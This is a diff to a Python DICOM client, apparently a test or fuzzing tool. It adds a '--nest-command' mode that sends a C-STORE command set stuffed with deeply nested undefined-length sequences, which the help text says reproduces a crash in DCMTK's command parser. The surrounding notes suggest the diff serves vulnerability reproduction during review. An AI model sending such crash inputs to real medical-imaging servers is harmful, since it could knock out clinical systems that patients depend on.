@@ -17,6 +17,10 @@ Modes:
                      FILE holds raw dataset bytes (no meta header), sent as
                      the instance UID, in the transfer syntax --ts (default
                      Explicit VR Little Endian; the bytes must match it)
+  store FILE --nest-command N
+                     append N nested sequences of undefined length to the
+                     C-STORE-RQ command set (reproduces a crash inside DCMTK's
+                     command parser; see docs/NOTES-review5.md)
   store FILE --stall N
                      send the first N bytes of the dataset, not flagged last,
                      then wait (up to --wait seconds) for the peer to give up;
@@ -181,7 +185,14 @@ def mode_store(a):
     else:
         ds, sop = dataset_of(a.file)
     s = associate(a)
-    s.sendall(pdata(store_command(sop), True, True))
+    command = store_command(sop)
+    if a.nest_command:
+        opening = struct.pack("<HHI", 0x0000, 0x5011, 0xFFFFFFFF) + \
+            struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
+        closing = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
+        command += opening * a.nest_command + closing * a.nest_command
+    for i in range(0, len(command), 16000):
+        s.sendall(pdata(command[i:i + 16000], True, i + 16000 >= len(command)))
     if a.stall is not None:
         send_dataset(s, ds[:a.stall], False)
         secs, closed = wait_closed(s, a.wait)
@@ -210,6 +221,7 @@ def main():
     p.add_argument("--stall", type=int)
     p.add_argument("--wait", type=float, default=30)
     p.add_argument("--raw-sop")
+    p.add_argument("--nest-command", type=int)
     p.add_argument("--ts", default=EXPLICIT_LE.decode())
     p.add_argument("--called", default="LDCTNODE")
     p.add_argument("--calling", default="RAWSCU")
